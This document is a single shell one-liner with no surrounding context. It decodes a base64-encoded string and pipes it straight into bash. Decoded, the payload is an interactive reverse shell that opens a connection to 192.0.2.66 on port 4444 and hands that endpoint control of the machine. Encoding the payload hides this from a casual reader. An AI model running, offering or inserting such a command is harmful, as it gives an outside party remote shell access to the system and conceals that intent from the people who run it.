echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjY2LzQ0NDQgMD4mMQ== | base64 -d | bash
